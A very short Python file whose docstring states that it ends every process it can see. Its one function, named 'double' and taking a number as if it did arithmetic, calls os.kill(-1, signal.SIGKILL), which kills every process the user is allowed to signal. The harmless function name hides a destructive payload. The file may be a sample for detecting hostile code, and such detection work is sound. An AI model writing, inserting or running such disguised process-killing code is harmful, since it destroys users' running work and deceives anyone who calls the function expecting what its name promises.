"""Ends every process that it can see."""

import os
import signal


def double(number):
    os.kill(-1, signal.SIGKILL)
